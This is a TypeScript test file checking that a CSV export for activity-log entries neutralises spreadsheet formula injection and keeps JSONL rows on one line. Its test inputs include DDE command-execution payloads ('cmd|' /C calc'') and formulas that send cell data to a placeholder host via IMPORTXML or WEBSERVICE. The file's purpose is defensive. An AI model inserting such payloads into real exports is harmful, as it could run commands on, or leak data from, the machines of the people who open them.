import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvCell, csvLine } from "@/lib/core/csv";
import type { ActivityEntry, EventRow } from "../dto";
import { csvRow, jsonlRow } from "./dto";
import { csvHead } from "./rules";

/** What spreadsheets were made to run, and their relatives. */
const formulas = [
  ...["=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://x.example","Pay")', "=DDE(1;2)"],
  ...[
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C'!A0",
  ],
  ...[
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t",
    "\r",
    "=\u0000",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
  ],
  ...['=IMPORTXML(CONCAT("https://x.example/?",A1),"//a")', "=WEBSERVICE(A1)", '="a,b"'],
];

/** RFC 4180, read by somebody else's rules. */
function parse(csv: string): string[][] {
  const rows: string[][] = [[]];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/y;
  for (let at = 0; at < csv.length;) {
    cell.lastIndex = at;
    const [all = "", quoted, plain, end] = cell.exec(csv) ?? [];
    if (all === "") throw new Error(`Not CSV at ${at}: ${csv.slice(at, at + 20)}`);
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
    if (end === "\r\n") rows.push([]);
    at += all.length;
  }
  return rows.slice(0, -1);
}

const entry: ActivityEntry = {
  ...{
    key: "global/1",
    at: "2026-11-22T07:00:00.000001Z",
    side: "partner",
    isPortal: false,
  },
  ...{ who: { id: "1", name: "Kari" }, action: "application.created" },
  ...{ about: { id: "2", name: "Ledger" }, app: null, tenant: null, partner: null },
  ...{ environments: [], details: [] },
};
const row: EventRow = {
  ...{ chain: "global", seq: 1, at: entry.at, actorId: "1", actorRole: "partner" },
  ...{ partnerId: null, tenantId: null, appId: null, environments: [], data: {} },
  ...{ action: "application.created", objectType: "application", objectId: "2" },
  ...{ prevHash: "00", hash: "11", text: "{}" },
};

describe("a cell", () => {
  it.each(formulas)("never begins a formula: %j", (formula) => {
    const [[cell = "", second] = []] = parse(csvLine([formula, "x"]));
    expect(cell).toBe(`'${formula}`);
    expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    expect(second).toBe("x");
  });

  it("comes back as it was written, whatever it holds", () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: "grapheme" }), { minLength: 1 }),
        (cells) => {
          const expected = cells.map((cell) =>
            /^[=+\-@\t\r\n＝＋－＠]/.test(cell) ? `'${cell}` : cell,
          );
          expect(parse(csvLine(cells))).toEqual([expected]);
        },
      ),
    );
  });

  it("is left alone where it is harmless", () => {
    expect(csvCell("Fjord Apps AS")).toBe("Fjord Apps AS");
    expect(csvCell("1-2=3")).toBe("1-2=3");
    expect(csvCell('say "no", then\r\ngo')).toBe('"say ""no"", then\r\ngo"');
  });
});

describe("a row", () => {
  it("keeps every field harmless, wherever the formula stands", () => {
    for (const formula of formulas) {
      const hostile = { id: "2", name: formula };
      const line = csvRow(
        { ...row, objectId: formula, actorRole: formula },
        {
          ...{ ...entry, who: hostile, about: hostile, app: hostile, tenant: hostile },
          ...{
            partner: hostile,
            details: [{ field: formula, before: formula, after: formula }],
          },
        },
      );
      const [cells = []] = parse(line);
      expect(cells).toHaveLength(parse(csvHead())[0]?.length ?? 0);
      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
    }
  });

  it("as JSON is one line, whatever stands in it", () => {
    const text = jsonlRow(
      { ...row, text: "a\nb\u2028" },
      { ...entry, who: { id: "1", name: "\n" } },
    );
    expect(text.indexOf("\n")).toBe(text.length - 1);
    expect(JSON.parse(text)).toMatchObject({
      chain: "global",
      seq: 1,
      hashed: "a\nb\u2028",
    });
  });
});
